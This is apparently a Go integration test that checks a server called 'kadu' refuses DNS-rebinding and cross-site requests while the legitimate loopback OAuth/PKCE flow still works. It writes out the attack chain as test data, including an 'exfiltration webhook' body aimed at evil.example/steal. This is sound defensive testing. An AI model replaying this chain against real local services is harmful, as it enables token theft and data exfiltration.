package main

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"html"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"time"
)

// rebindingServer is a real `kadu serve` on its embedded defaults (loopback,
// embedded issuer) and an owner token for its default organisation.
type rebindingServer struct {
	addr  string // 127.0.0.1:port
	port  string
	token string
}

func startRebindingServer(t *testing.T) *rebindingServer {
	t.Helper()
	bin := buildKadu(t)
	addr := freeAddr(t)
	cfgFile := writeConfig(t, "log:\n  level: warn\n"+noBundles)
	env := append(os.Environ(), "KADU_DATA_DIR="+t.TempDir())
	serveProcess(t, bin, env, "", "serve", "--config", cfgFile, "--addr", addr, "--admin-addr", freeAddr(t))
	tok := exec.Command(bin, "token", "--config", cfgFile, "--addr", addr, "--role", "owner", "--scope", "kadu.admin")
	tok.Env = env
	out, err := tok.Output()
	if err != nil {
		t.Fatalf("kadu token: %v", err)
	}
	_, port, _ := net.SplitHostPort(addr)
	return &rebindingServer{addr: addr, port: port, token: strings.TrimSpace(string(out))}
}

// call is one request to the server. host overrides the Host header; body
// is sent as is with contentType.
type call struct {
	method, path, host  string
	headers             map[string]string
	contentType, body   string
	bearer              bool // send the owner token
	noRedirect          bool
	jar                 http.CookieJar
	wantStatus          int
	wantInBody, wantHdr string // substrings of the body, and "Name: value" of a header
}

func (s *rebindingServer) do(t *testing.T, c call) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(c.method, "http://"+s.addr+c.path, strings.NewReader(c.body))
	if err != nil {
		t.Fatal(err)
	}
	if c.host != "" {
		req.Host = c.host
	}
	if c.contentType != "" {
		req.Header.Set("Content-Type", c.contentType)
	}
	if c.bearer {
		req.Header.Set("Authorization", "Bearer "+s.token)
	}
	for k, v := range c.headers {
		req.Header.Set(k, v)
	}
	client := &http.Client{Jar: c.jar, Timeout: time.Minute}
	if c.noRedirect {
		client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	}
	res, err := client.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", c.method, c.path, err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res, string(b)
}

func (s *rebindingServer) expect(t *testing.T, name string, c call) string {
	t.Helper()
	res, body := s.do(t, c)
	if res.StatusCode != c.wantStatus {
		t.Errorf("%s: %s %s answered %d, want %d; body %.300s", name, c.method, c.path, res.StatusCode, c.wantStatus, body)
	}
	if c.wantInBody != "" && !strings.Contains(body, c.wantInBody) {
		t.Errorf("%s: body %.300s, want it to contain %q", name, body, c.wantInBody)
	}
	if c.wantHdr != "" {
		k, v, _ := strings.Cut(c.wantHdr, ": ")
		if got := res.Header.Get(k); got != v {
			t.Errorf("%s: header %s = %q, want %q", name, k, got, v)
		}
	}
	return body
}

// TestServeRefusesDNSRebinding replays, against the real binary on its
// embedded defaults, the attack chain of the security review: a page on
// another site whose name resolves to 127.0.0.1 registers a client, asks
// for a client_credentials token, lists tasks and creates a webhook to its
// own server. Every step is 403, on every kind of route, as is a cross-site
// page posting to the real loopback name; nothing is created. The
// legitimate loopback flow — a browser client on another localhost port
// (MCP Inspector) signing in through the consent page and calling /mcp,
// and a script calling /api/v1 — still works.
func TestServeRefusesDNSRebinding(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary and starts a server")
	}
	s := startRebindingServer(t)
	const jsonType, formType = "application/json", "application/x-www-form-urlencoded"
	evilHost := "evil.example:" + s.port
	rebound := map[string]string{"Origin": "http://" + evilHost, "Sec-Fetch-Site": "same-origin"}
	crossSite := map[string]string{"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}
	webhook := `{"url":"https://evil.example/steal","event_codes":["execution.succeeded"]}`
	mcpBody := `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`
	mcpHeaders := func(h map[string]string) map[string]string {
		out := map[string]string{"Accept": "application/json", "MCP-Protocol-Version": "2025-06-18"}
		for k, v := range h {
			out[k] = v
		}
		return out
	}

	attacks := []struct {
		name string
		call call
	}{
		// The chain, from the rebound name.
		{"register a client", call{method: "POST", path: "/oauth/register", host: evilHost, headers: rebound, contentType: jsonType,
			body: `{"token_endpoint_auth_method":"client_secret_post","grant_types":["client_credentials"]}`, wantInBody: "access_denied"}},
		{"client_credentials token", call{method: "POST", path: "/oauth/token", host: evilHost, headers: rebound, contentType: formType,
			body: "grant_type=client_credentials&client_id=x&client_secret=y", wantInBody: "access_denied"}},
		{"list tasks", call{method: "GET", path: "/api/v1/tasks", host: evilHost, headers: rebound, bearer: true, wantInBody: `"forbidden_origin"`}},
		{"create an exfiltration webhook", call{method: "POST", path: "/api/v1/webhooks", host: evilHost, headers: rebound, bearer: true,
			contentType: jsonType, body: webhook, wantInBody: `"forbidden_origin"`}},
		// Every other kind of route, from the rebound name.
		{"MCP endpoint", call{method: "POST", path: "/mcp", host: evilHost, headers: mcpHeaders(rebound), bearer: true,
			contentType: jsonType, body: mcpBody, wantInBody: `"code":-32600`}},
		{"authorization server metadata", call{method: "GET", path: "/.well-known/oauth-authorization-server", host: evilHost}},
		{"protected resource metadata", call{method: "GET", path: "/.well-known/oauth-protected-resource/mcp", host: evilHost}},
		{"consent page", call{method: "GET", path: "/oauth/authorize?client_id=x", host: evilHost}},
		{"register preflight", call{method: "OPTIONS", path: "/oauth/register", host: evilHost,
			headers: map[string]string{"Origin": "http://" + evilHost, "Access-Control-Request-Method": "POST"}}},
		{"blob upload URL", call{method: "PUT", path: "/blobs/org_dev/file_x?sig=x", host: evilHost, body: "stolen"}},
		{"approval page", call{method: "GET", path: "/approve/apr_0190", host: evilHost}},
		{"unknown path", call{method: "GET", path: "/nothing-here", host: evilHost}},
		// A cross-site page posting to the real loopback name.
		{"cross-site register", call{method: "POST", path: "/oauth/register", headers: crossSite, contentType: jsonType,
			body: `{"token_endpoint_auth_method":"none","redirect_uris":["http://127.0.0.1/cb"]}`}},
		{"cross-site token", call{method: "POST", path: "/oauth/token", headers: crossSite, contentType: formType, body: "grant_type=client_credentials"}},
		{"cross-site token without Origin", call{method: "POST", path: "/oauth/token", headers: map[string]string{"Sec-Fetch-Site": "cross-site"},
			contentType: formType, body: "grant_type=client_credentials"}},
		{"cross-site webhook", call{method: "POST", path: "/api/v1/webhooks", headers: crossSite, bearer: true, contentType: jsonType, body: webhook,
			wantInBody: `"forbidden_origin"`}},
		{"cross-site MCP call", call{method: "POST", path: "/mcp", headers: mcpHeaders(crossSite), bearer: true, contentType: jsonType, body: mcpBody,
			wantInBody: `"code":-32600`}},
		{"Origin null", call{method: "POST", path: "/oauth/register", headers: map[string]string{"Origin": "null"}, contentType: jsonType, body: `{}`}},
	}
	for _, a := range attacks {
		a.call.wantStatus = http.StatusForbidden
		s.expect(t, a.name, a.call)
	}

	// Nothing was created: the organisation has no webhook.
	body := s.expect(t, "webhooks after the attack", call{method: "GET", path: "/api/v1/webhooks", bearer: true, wantStatus: http.StatusOK})
	if !strings.Contains(body, `"data":[]`) {
		t.Errorf("webhooks after the attack: %.300s, want none", body)
	}
	// Even from loopback, registering does not yield a token on defaults.
	s.expect(t, "client_credentials from loopback", call{method: "POST", path: "/oauth/register", contentType: jsonType,
		body:       `{"token_endpoint_auth_method":"client_secret_post","grant_types":["client_credentials"]}`,
		wantStatus: http.StatusBadRequest, wantInBody: "auth.dev.client_credentials_role"})

	t.Run("legitimate loopback flow", func(t *testing.T) {
		s.legitimateFlow(t)
	})
}

// legitimateFlow signs in like MCP Inspector (a page on
// http://localhost:6274: dynamic registration, consent page, code exchange
// with PKCE, all with CORS), then calls /mcp from that page, and /api/v1
// from a script.
func (s *rebindingServer) legitimateFlow(t *testing.T) {
	const inspector = "http://localhost:6274"
	const redirect = inspector + "/oauth/callback"
	public := "http://" + s.addr
	fromInspector := map[string]string{"Origin": inspector, "Sec-Fetch-Site": "cross-site"}

	s.expect(t, "register preflight", call{method: "OPTIONS", path: "/oauth/register",
		headers:    map[string]string{"Origin": inspector, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"},
		wantStatus: http.StatusNoContent, wantHdr: "Access-Control-Allow-Origin: *"})
	reg := s.expect(t, "register", call{method: "POST", path: "/oauth/register", headers: fromInspector, contentType: "application/json",
		body:       `{"client_name":"MCP Inspector","token_endpoint_auth_method":"none","redirect_uris":["` + redirect + `"]}`,
		wantStatus: http.StatusCreated})
	var client struct {
		ID string `json:"client_id"`
	}
	if err := json.Unmarshal([]byte(reg), &client); err != nil || client.ID == "" {
		t.Fatalf("registration answer %.300s: %v", reg, err)
	}

	verifier := rand.Text() + rand.Text()
	sum := sha256.Sum256([]byte(verifier))
	q := url.Values{"client_id": {client.ID}, "redirect_uri": {redirect}, "response_type": {"code"},
		"code_challenge": {base64.RawURLEncoding.EncodeToString(sum[:])}, "code_challenge_method": {"S256"},
		"state": {"st"}, "resource": {public + "/mcp"}}
	jar, _ := cookiejar.New(nil)
	page := s.expect(t, "consent page", call{method: "GET", path: "/oauth/authorize?" + q.Encode(), jar: jar,
		headers: map[string]string{"Sec-Fetch-Site": "cross-site"}, wantStatus: http.StatusOK})
	m := regexp.MustCompile(`name="form" value="([^"]+)"`).FindStringSubmatch(page)
	if m == nil {
		t.Fatalf("consent page has no form token: %.500s", page)
	}
	consent := url.Values{"form": {html.UnescapeString(m[1])}, "subject": {"dev-user"}, "org": {"org_dev"}, "role": {"owner"}, "decision": {"approve"}}
	res, _ := s.do(t, call{method: "POST", path: "/oauth/authorize", jar: jar, noRedirect: true, contentType: "application/x-www-form-urlencoded",
		headers: map[string]string{"Origin": public, "Sec-Fetch-Site": "same-origin"}, body: consent.Encode()})
	loc, _ := url.Parse(res.Header.Get("Location"))
	if res.StatusCode/100 != 3 || loc == nil || loc.Query().Get("code") == "" {
		t.Fatalf("consent: %d to %q, want a redirect with a code", res.StatusCode, res.Header.Get("Location"))
	}

	exchange := url.Values{"grant_type": {"authorization_code"}, "code": {loc.Query().Get("code")}, "redirect_uri": {redirect},
		"client_id": {client.ID}, "code_verifier": {verifier}, "resource": {public + "/mcp"}}
	tokBody := s.expect(t, "code exchange", call{method: "POST", path: "/oauth/token", headers: fromInspector,
		contentType: "application/x-www-form-urlencoded", body: exchange.Encode(), wantStatus: http.StatusOK,
		wantHdr: "Access-Control-Allow-Origin: *"})
	var tok struct {
		AccessToken string `json:"access_token"`
	}
	if err := json.Unmarshal([]byte(tokBody), &tok); err != nil || tok.AccessToken == "" {
		t.Fatalf("token answer %.300s: %v", tokBody, err)
	}

	signedIn := &rebindingServer{addr: s.addr, port: s.port, token: tok.AccessToken}
	signedIn.expect(t, "MCP call from the Inspector", call{method: "POST", path: "/mcp", bearer: true, contentType: "application/json",
		headers: map[string]string{"Origin": inspector, "Sec-Fetch-Site": "cross-site", "Accept": "application/json", "MCP-Protocol-Version": "2025-06-18"},
		body:    `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`, wantStatus: http.StatusOK, wantHdr: "Access-Control-Allow-Origin: " + inspector})

	// A script (no Origin) on the loopback names.
	s.expect(t, "script lists tasks on localhost", call{method: "GET", path: "/api/v1/tasks", host: "localhost:" + s.port, bearer: true, wantStatus: http.StatusOK})
	s.expect(t, "script creates a webhook", call{method: "POST", path: "/api/v1/webhooks", bearer: true, contentType: "application/json",
		body: `{"url":"https://hooks.example.com/kadu","event_codes":["execution.succeeded"]}`, wantStatus: http.StatusCreated})
	s.expect(t, "metadata read from another site", call{method: "GET", path: "/.well-known/oauth-authorization-server",
		headers: map[string]string{"Origin": "https://client.example", "Sec-Fetch-Site": "cross-site"}, wantStatus: http.StatusOK})
}
